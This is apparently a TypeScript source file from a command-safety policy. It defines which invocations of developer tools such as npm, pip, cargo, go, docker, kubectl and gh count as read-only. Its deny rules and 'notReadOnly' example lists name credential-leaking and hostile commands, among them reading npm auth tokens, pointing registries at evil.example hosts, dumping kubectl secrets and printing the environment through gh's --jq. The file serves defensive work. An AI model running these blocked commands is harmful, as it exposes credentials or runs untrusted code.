import {
  flag,
  flags,
  forbid,
  pathValued,
  programSpecs,
  valued,
  valuedEach,
  type ParsedArguments,
  type ParsedOption,
  type ProgramSpec,
  type SteeringFile,
} from "../command-spec.js";
import type { ShellWord } from "../../shell-word.js";
import { queryExpressionProblem } from "../program-text.js";
import { SECRET_VARIABLE_NAME } from "../../secret-variables.js";
import { ghRepositoryHost, namedHost } from "../named-hosts.js";

/**
 * A version query, with the exact spelling each program gives it: `bash -v` and `ruby -v` run the
 * script on stdin, and `make version` or `python3 version` run a file or target named "version".
 */
function versionQuery(name: string, spellings: readonly string[], operands: readonly (readonly string[])[] = [[]]): ProgramSpec {
  return {
    name,
    summary: `${spellings.join(" or ")} only`,
    ...(STEERING[name] === undefined ? {} : { steeredBy: STEERING[name] }),
    style: "single-dash",
    options: [flag(...spellings.filter((spelling) => spelling.startsWith("-")))],
    operands: { role: "text", oneOf: operands },
    check: (parsed) =>
      parsed.options.length + parsed.operands.length === 1 ? undefined : `only ${name} ${spellings.join(" or ")} is read-only`,
    examples: { readOnly: [`${name} ${spellings[0]}`], notReadOnly: [`${name} -c x`] },
  };
}

/**
 * Project files that steer a program even when it is only asked its version (docs/command-policy.md,
 * "project configuration"): the toolchain or JVM a checkout names is what runs.
 */
const RUST_TOOLCHAIN: SteeringFile[] = ["rust-toolchain.toml", "rust-toolchain"].map((path) => ({
  path,
  reason: "rustup runs the toolchain the file names, a folder of the checkout included (rustup book: overrides, toolchain file `path`)",
}));
const STEERING: Record<string, readonly SteeringFile[]> = {
  cargo: RUST_TOOLCHAIN,
  rustc: RUST_TOOLCHAIN,
  // `rustup --version` also prints the active toolchain's `rustc --version`.
  rustup: RUST_TOOLCHAIN,
  mvn: [{ path: ".mvn/jvm.config", reason: "the mvn launcher passes its options to the JVM: -javaagent and -agentpath load code" }],
  dotnet: [{ path: "global.json", reason: "sdk.paths makes dotnet run an SDK from folders the checkout names" }],
};
/**
 * cargo reads `.cargo/config.toml` from every folder above the project: `build.rustc` and
 * `build.rustc-wrapper` name what it runs to learn the target.
 */
const CARGO_CONFIG: SteeringFile[] = [".cargo/config.toml", ".cargo/config"].map((path) => ({
  path,
  reason: "build.rustc or build.rustc-wrapper name the program cargo runs to learn the target (cargo book: configuration)",
}));
/** npm's project `.npmrc` names the registry and proxy the registry commands reach, with `${VAR}` credentials expanded into them. */
const NPMRC: SteeringFile[] = [
  { path: ".npmrc", reason: "it sets the registry, proxy and tokens npm sends (npm docs: npmrc, per-project config)" },
];

const LONG = ["--version"];
/** Not yarn or pnpm: corepack downloads and runs whatever version package.json names. */
const VERSION_QUERIES: [string, string[]][] = [
  ["node", ["--version", "-v"]],
  ["python", ["--version", "-V"]],
  ["python3", ["--version", "-V"]],
  ["ruby", LONG],
  ["perl", ["--version", "-v"]],
  ["php", ["--version", "-v"]],
  ["java", ["--version", "-version"]],
  ["javac", ["--version", "-version"]],
  ["rustc", ["--version", "-V"]],
  ["deno", ["--version", "-V"]],
  ["bun", ["--version", "-v"]],
  ["tsc", ["--version", "-v"]],
  ["npx", LONG],
  ["gcc", LONG],
  ["g++", LONG],
  ["clang", LONG],
  ["make", ["--version", "-v"]],
  ["cmake", LONG],
  ["bash", LONG],
  ["zsh", LONG],
  ["uv", ["--version", "-V"]],
  ["curl", ["--version", "-V"]],
  ["wget", ["--version", "-V"]],
  ["rustup", ["--version", "-V"]],
  ["mvn", ["--version", "-v"]],
  ["gradle", ["--version", "-v"]],
  ["dotnet", LONG],
  ["swift", LONG],
  ["kotlin", ["-version"]],
  ["psql", ["--version", "-V"]],
  ["sqlite3", ["--version"]],
];

/** Settings whose names look like credentials (`//registry.npmjs.org/:_authToken`). */
const notCredentialName = (value: string) =>
  SECRET_VARIABLE_NAME.test(value) || /_auth/i.test(value) ? "the setting may hold a credential" : undefined;

const NPM_OUTPUT = flags(
  "--json --parseable -p --long -l --all -a -g --global --omit --prod --dev --production " +
    "--include-workspace-root --no-color --color --unicode -s --silent -q --quiet",
);
const npmSub = (name: string, aliases: string[], extra: ProgramSpec["options"] = []): ProgramSpec => ({
  name,
  aliases,
  summary: `npm ${name}`,
  options: [...NPM_OUTPUT, ...(extra ?? [])],
  operands: { role: "text", check: notCredentialName },
});

const PIP_LIST = [
  ...flags(
    "-o -u -e -l --user --outdated --uptodate --editable --local --not-required " +
      "--pre --no-index --include-editable --exclude-editable -v --verbose -q --quiet",
  ),
  valued("--format"),
  valued("--exclude"),
  pathValued("--path"),
];

/**
 * kubectl's spellings of the secret resource: any case, `secret(s)`, `secrets.`, `secrets.v1.`,
 * `sealedsecrets.bitnami.com`, `secret/name`.
 */
const KUBE_SECRETS = /(^|,)(secrets?|sealedsecrets?)(\.[\w.-]*)?(\/|,|$)/i;
const notKubeSecret = (value: string) => (KUBE_SECRETS.test(value) ? "kubectl shows secrets" : undefined);
const KUBE_READ_OPTIONS = [
  ...flags(
    "-A --all-namespaces -w --watch --watch-only --show-labels --no-headers --show-kind --ignore-not-found " +
      "-p --previous -f --follow --timestamps --prefix --all-containers --show-managed-fields --recursive -R",
  ),
  // One option per meaning: the checks ask for `-o`'s values, which `--output=yaml` gives too.
  valued("-o", "--output"),
  valued("-n", "--namespace"),
  valued("-l", "--selector"),
  valued("-L", "--label-columns"),
  valued("-c", "--container"),
  ...valuedEach(
    "--sort-by --field-selector --chunk-size --request-timeout --tail --since --since-time --limit-bytes " +
      "--context --cluster --template --max-log-requests --subresource",
  ),
  pathValued("--filename"),
];
/** Output formats whose template kubectl reads from a file: `-o go-template-file=F`, or `-o jsonpath-file --template F`. */
const KUBE_FILE_FORMAT = /^(go-template-file|templatefile|jsonpath-file|custom-columns-file)(?:=(.*))?$/;
/** A template file is printed around the objects, so reading a secret as one prints the secret. */
function kubeTemplateFiles(options: readonly ParsedOption[]): ShellWord[] {
  const formats = options.filter((option) => option.name === "-o" && option.value?.value !== undefined).map((option) => option.value!);
  const files = formats.flatMap((word) => {
    const file = KUBE_FILE_FORMAT.exec(word.value!)?.[2];
    return file ? [{ ...word, value: file }] : [];
  });
  if (!formats.some((word) => KUBE_FILE_FORMAT.test(word.value!))) return files;
  return [...files, ...options.filter((option) => option.name === "--template" && option.value).map((option) => option.value!)];
}
const kubeSub = (name: string): ProgramSpec => ({
  name,
  summary: `kubectl ${name}`,
  options: KUBE_READ_OPTIONS,
  operands: { role: "text", check: notKubeSecret },
  pathsInValues: kubeTemplateFiles,
});
/** Output formats of `kubectl get` that print names and metadata only, never a secret's data. */
const KUBE_NAME_FORMATS = new Set(["wide", "name"]);
/** `kubectl get secrets` lists names (as `ls ~/.ssh` does); `-o yaml/json/jsonpath/go-template…` prints the data. */
const kubeGet: ProgramSpec = {
  ...kubeSub("get"),
  operands: { role: "text" },
  check: (parsed) => {
    if (!parsed.operands.some((word) => word.value === undefined || notKubeSecret(word.value) !== undefined)) return undefined;
    const formats = [...parsed.valuesOf("-o"), ...parsed.valuesOf("--template")];
    return formats.every((word) => word.value !== undefined && KUBE_NAME_FORMATS.has(word.value))
      ? undefined
      : "kubectl prints the secrets' data in this output format";
  },
};

const GH_OPTIONS = [
  // gh's --jq is gojq, whose `env` and `$ENV` print the environment gh runs in (its tokens included).
  { ...valued("-q", "--jq"), check: queryExpressionProblem },
  ...valuedEach(
    "--json -t --template -L --limit -s --state -a --assignee -l --label -A --author -R " +
      "--repo -b --branch -B --base -S --search --app -w --workflow -u --user -e --event -c --commit",
  ),
  ...flags("--comments --exit-status --log --log-failed --name-only --patch --color --required -v --verbose"),
];
const ghGroup = (name: string, subcommands: string[]): ProgramSpec => ({
  name,
  summary: `gh ${name}`,
  subcommands: subcommands.map((sub) => ({
    name: sub,
    summary: `gh ${name} ${sub}`,
    options: GH_OPTIONS,
    operands: { role: "text" },
    check: (parsed) =>
      [...parsed.valuesOf("-R"), ...parsed.valuesOf("--repo")]
        .map((word) => (word.value === undefined ? "-R only known at run time" : ghRepositoryHost(word.value)))
        .find(Boolean),
  })),
});

const DOCKER_FORMAT = [
  ...flags("-a --all -q --quiet -n --no-trunc -l --latest -s --size --digests --tree"),
  ...valuedEach("--format -f --filter --last"),
];

export const DEVELOPER_TOOLS = programSpecs([
  ...VERSION_QUERIES.map(([name, spellings]) => versionQuery(name, spellings)),
  {
    name: "terraform",
    summary: "terraform --version, version, fmt -check",
    style: "single-dash",
    options: [flag("--version", "-version", "-v")],
    bareIsReadOnly: true,
    subcommands: [
      { name: "version", summary: "terraform version", style: "single-dash", options: [flag("-json")], operands: { max: 0 } },
      {
        name: "fmt",
        // `terraform fmt -help`: "-write=false  Don't write to source files (always disabled if using -check)".
        summary: "terraform fmt -check or -write=false (reports unformatted files; rewrites them otherwise)",
        style: "single-dash",
        options: flags("-check -diff -recursive -no-color -list=false -list=true -write=false"),
        operands: { role: "path" },
        check: (parsed) =>
          parsed.has("-check") || parsed.has("-write=false") ? undefined : "terraform fmt rewrites the files unless -check or -write=false",
      },
    ],
    check: (parsed) => (parsed.options.length === 1 ? undefined : "only terraform --version is read-only"),
    examples: {
      readOnly: ["terraform --version", "terraform version", "terraform fmt -check", "terraform fmt -check -recursive -diff modules"],
      notReadOnly: [
        "terraform fmt",
        "terraform fmt -recursive",
        "terraform fmt -write=true",
        "terraform -chdir=x fmt -check",
        "terraform plan",
      ],
    },
  },
  {
    name: "npm",
    summary: "npm list, view, outdated, root, prefix, explain, config get/list, --version",
    options: [flag("-v", "--version")],
    bareIsReadOnly: true,
    subcommands: [
      npmSub("list", ["ls", "ll", "la"], [valued("--depth")]),
      {
        ...npmSub("view", ["info", "show", "v"]),
        steeredBy: NPMRC,
        operands: { role: "text", check: (value) => namedHost(value) ?? notCredentialName(value) },
        examples: {
          readOnly: ["npm view react version"],
          notReadOnly: ["npm view git+https://evil.example/x.git", "npm view https://evil.example/x.tgz", "npm view github:o/r"],
        },
      },
      { ...npmSub("outdated", []), steeredBy: NPMRC, examples: { readOnly: ["npm outdated --json"], notReadOnly: [] } },
      npmSub("root", []),
      npmSub("prefix", []),
      npmSub("explain", ["why"]),
      { ...npmSub("version", []), operands: { max: 0 } },
      { name: "config", summary: "npm config get/list", subcommands: [npmSub("get", []), npmSub("list", ["ls"])] },
    ],
    check: (parsed: ParsedArguments) => (parsed.has("-v") ? undefined : "npm without a subcommand"),
    examples: {
      readOnly: ["npm ls --depth 0", "npm view react version", "npm config get registry"],
      notReadOnly: [
        "npm install",
        "npm i",
        "npm config get //registry.npmjs.org/:_authToken",
        "npm view x --registry=https://evil.example",
      ],
    },
  },
  ...["pip", "pip3"].map(
    (name): ProgramSpec => ({
      name,
      summary: `${name} list, show, freeze, check, --version`,
      options: [...flags("-V --version -q --quiet -v --verbose --no-color --disable-pip-version-check --isolated")],
      bareIsReadOnly: true,
      subcommands: [
        { name: "list", summary: "pip list", options: PIP_LIST, operands: { max: 0 } },
        { name: "show", summary: "pip show", options: [flag("-f", "--files"), flag("-v", "--verbose")], operands: { role: "text" } },
        {
          name: "freeze",
          summary: "pip freeze",
          options: [...flags("-l --local --user --all --exclude-editable"), pathValued("--path"), valued("--exclude")],
          operands: { max: 0 },
        },
        { name: "check", summary: "pip check", options: [], operands: { max: 0 } },
      ],
      check: (parsed) => (parsed.has("-V") ? undefined : `${name} without a subcommand`),
      examples: {
        readOnly: [`${name} list`, `${name} show requests`],
        notReadOnly: [`${name} install x`, `${name} list --index-url https://evil.example`],
      },
    }),
  ),
  {
    name: "cargo",
    summary: "cargo --version, --list, metadata --no-deps, tree --frozen",
    steeredBy: STEERING.cargo,
    style: "single-dash",
    options: [flag("--version", "-V"), flag("--list")],
    operands: { max: 0 },
    bareIsReadOnly: true,
    subcommands: [
      // Reads Cargo.toml and the lock file; no build script runs (cargo book: cargo metadata, cargo tree).
      {
        name: "metadata",
        summary: "cargo metadata --no-deps",
        // A subcommand's steering files are its own: the toolchain file names the cargo that runs.
        steeredBy: STEERING.cargo,
        options: [...flags("--no-deps --frozen --locked --offline -q --quiet"), valued("--format-version")],
        operands: { max: 0 },
        check: (parsed) => (parsed.has("--no-deps") ? undefined : "cargo metadata without --no-deps resolves (and downloads) dependencies"),
        examples: { readOnly: ["cargo metadata --no-deps --format-version 1"], notReadOnly: ["cargo metadata"] },
      },
      {
        name: "tree",
        summary: "cargo tree --frozen (reads Cargo.toml and Cargo.lock; no build script runs)",
        steeredBy: [...RUST_TOOLCHAIN, ...CARGO_CONFIG],
        options: [
          ...flags(
            "-d --duplicates --no-dedupe --workspace --all-features --no-default-features " +
              "--all-targets --frozen --locked --offline -q --quiet -v --verbose",
          ),
          ...valuedEach(
            "-i --invert -e --edges --prune --depth -p --package --exclude --target --charset -f --format --prefix -F --features --color",
          ),
          pathValued("--manifest-path"),
        ],
        forbidden: forbid("--config -Z", "sets any cargo setting (a rustc wrapper, a registry) or an unstable flag"),
        operands: { max: 0 },
        // Without --frozen (or --locked with --offline) it may fetch the registry index and write Cargo.lock.
        check: (parsed) =>
          parsed.has("--frozen") || (parsed.has("--locked") && parsed.has("--offline"))
            ? undefined
            : "cargo tree without --frozen may fetch the index and write Cargo.lock",
        examples: {
          readOnly: ["cargo tree --frozen", "cargo tree -i serde -e normal --frozen", "cargo tree --depth 1 --offline --locked"],
          notReadOnly: [
            "cargo tree",
            "cargo tree --offline",
            "cargo tree --frozen --config build.rustc-wrapper=./x",
            "cargo tree --frozen -Z unstable-options",
            "cargo tree --frozen serde",
          ],
        },
      },
    ],
    check: (parsed) => (parsed.options.length === 1 ? undefined : "only cargo --version or --list is read-only"),
    examples: {
      readOnly: ["cargo --version", "cargo --list", "cargo metadata --no-deps"],
      notReadOnly: ["cargo build", "cargo --version --list", "cargo metadata", "cargo tree --config x=1"],
    },
  },
  {
    name: "go",
    summary: "go version, go env, go list, go doc",
    subcommands: [
      { name: "version", summary: "go version", options: flags("-m -v -json"), operands: { role: "path" } },
      {
        name: "env",
        summary: "go env",
        options: flags("-json -changed"),
        forbidden: forbid("-w -u", "changes the go environment file"),
        operands: { role: "text" },
      },
      {
        name: "list",
        // `go help list`: only -export and -compiled build (the latter runs cgo on CgoFiles); loading reads the sources.
        summary: "go list -m (modules only; no -export, -compiled or -toolexec, which build or run programs)",
        style: "single-dash",
        options: [...flags("-m -json -e -deps -test -find -versions -retracted"), valued("-f")],
        forbidden: [
          ...forbid("-export -compiled -toolexec -exec -overlay -modfile -pgo", "builds packages or runs the program named"),
          ...forbid("-u -mod", "queries or changes module versions"),
        ],
        operands: { role: "text" },
        // Loading packages may download missing modules and, through go.mod's toolchain line, run another go.
        check: (parsed) => (parsed.has("-m") ? undefined : "go list without -m loads packages (it may download modules)"),
      },
      { name: "doc", summary: "go doc", options: flags("-all -c -cmd -short -src -u"), operands: { role: "text" } },
    ],
    examples: {
      readOnly: ["go version", "go env GOPATH", "go list -m", "go list -m all", "go list -m -json", "go doc fmt.Println"],
      notReadOnly: [
        "go env -w GOFLAGS=-x",
        "go run .",
        "go list -compiled ./...",
        "go list -export ./...",
        "go list -m -toolexec ./x",
        "go list -m -u all",
        "go list ./...",
        "go list -deps -test -json ./cmd/x",
      ],
    },
  },
  {
    name: "docker",
    summary: "docker ps, images, version, info, logs, container ls, image ls, compose ps/logs",
    options: [flag("-v", "--version")],
    forbidden: forbid(
      "-H --host -c --context --config -D --debug --tls --tlsverify --tlscacert --tlscert --tlskey",
      "talks to another daemon or loads other settings",
    ),
    subcommands: [
      { name: "ps", summary: "docker ps", options: DOCKER_FORMAT, operands: { max: 0 } },
      { name: "images", summary: "docker images", options: DOCKER_FORMAT, operands: { role: "text" } },
      { name: "version", summary: "docker version", options: valuedEach("-f --format"), operands: { max: 0 } },
      { name: "info", summary: "docker info", options: valuedEach("-f --format"), operands: { max: 0 } },
      {
        name: "stats",
        summary: "docker stats",
        options: [...flags("--no-stream -a --all --no-trunc"), valued("--format")],
        operands: { role: "text" },
      },
      {
        name: "logs",
        summary: "docker logs",
        options: [...flags("-f --follow -t --timestamps --details"), ...valuedEach("--tail -n --since --until")],
        operands: { role: "text" },
      },
      {
        name: "container",
        summary: "docker container ls",
        subcommands: [
          { name: "ls", aliases: ["list", "ps"], summary: "docker container ls", options: DOCKER_FORMAT, operands: { max: 0 } },
        ],
      },
      {
        name: "image",
        summary: "docker image ls",
        subcommands: [{ name: "ls", aliases: ["list"], summary: "docker image ls", options: DOCKER_FORMAT, operands: { role: "text" } }],
      },
      {
        name: "compose",
        summary: "docker compose ps, logs",
        subcommands: [
          {
            name: "ps",
            summary: "docker compose ps",
            options: [...DOCKER_FORMAT, ...valuedEach("--status --services")],
            operands: { role: "text" },
          },
          {
            name: "logs",
            summary: "docker compose logs",
            options: [...flags("-f --follow -t --timestamps --no-color --no-log-prefix"), ...valuedEach("--tail -n --since --until")],
            operands: { role: "text" },
          },
        ],
      },
    ],
    bareIsReadOnly: true,
    check: (parsed) => (parsed.has("-v") ? undefined : "docker without a subcommand"),
    examples: {
      readOnly: ["docker ps -a", "docker compose logs --tail 50 web"],
      notReadOnly: ["docker inspect web", "docker -H tcp://evil ps", "docker run x"],
    },
  },
  {
    name: "kubectl",
    summary: "kubectl get, describe, logs, version, api-resources, config view (never secrets)",
    options: [...valuedEach("-n --namespace --context --cluster --request-timeout")],
    forbidden: [
      ...forbid(
        "--server -s --kubeconfig --token --as --as-group --as-uid --username --password " +
          "--certificate-authority --client-certificate --client-key --insecure-skip-tls-verify",
        "sends credentials elsewhere or acts as someone else",
      ),
      ...forbid("-v --v --vmodule", "logs request headers, bearer tokens included, at high verbosity"),
      ...forbid("-k --kustomize --raw", "builds manifests or prints raw credentials"),
    ],
    subcommands: [
      kubeGet,
      kubeSub("describe"),
      kubeSub("logs"),
      kubeSub("top"),
      kubeSub("explain"),
      { name: "version", summary: "kubectl version", options: [flag("--client"), valued("-o", "--output")], operands: { max: 0 } },
      {
        name: "api-resources",
        summary: "kubectl api-resources",
        options: [...flags("--namespaced --no-headers"), ...valuedEach("-o --output --api-group --verbs")],
        operands: { max: 0 },
      },
      {
        name: "config",
        summary: "kubectl config view, get-contexts, current-context",
        subcommands: [
          {
            name: "view",
            summary: "kubectl config view",
            options: [flag("--minify"), valued("-o", "--output")],
            forbidden: [
              ...forbid("--raw", "prints the credentials"),
              ...forbid("--flatten", "inlines the certificate and key files a kubeconfig names"),
            ],
          },
          {
            name: "get-contexts",
            summary: "kubectl config get-contexts",
            options: [flag("--no-headers"), valued("-o", "--output")],
            operands: { role: "text" },
          },
          { name: "current-context", summary: "kubectl config current-context", options: [], operands: { max: 0 } },
        ],
      },
    ],
    examples: {
      readOnly: ["kubectl get pods -n web", "kubectl logs web-1 --tail 20", "kubectl get secrets", "kubectl get secrets -o wide"],
      notReadOnly: [
        "kubectl get secret db -o yaml",
        "kubectl get secrets -o jsonpath={.items[0].data}",
        "kubectl get secrets.v1 -o json",
        "kubectl get secrets. -o yaml",
        "kubectl get SECRET.v1./db -o json",
        "kubectl --token=x get pods",
        "kubectl delete pod x",
        "kubectl config view --raw",
      ],
    },
  },
  {
    name: "gh",
    summary: "gh repo view, issue/pr/run/release list and view, status",
    forbidden: forbid("-w --web", "opens a browser"),
    subcommands: [
      ghGroup("repo", ["view"]),
      ghGroup("issue", ["list", "view", "status"]),
      ghGroup("pr", ["list", "view", "status", "diff", "checks"]),
      ghGroup("run", ["list", "view"]),
      ghGroup("release", ["list", "view"]),
      { name: "status", summary: "gh status", options: GH_OPTIONS, operands: { max: 0 } },
    ],
    examples: {
      readOnly: ["gh pr list", "gh issue view 12 --comments"],
      notReadOnly: [
        "gh pr merge 1",
        "gh api /user",
        "gh repo view --web",
        "gh pr list --json title --jq env",
        "gh repo view --json name -q '$ENV'",
      ],
    },
  },
]);
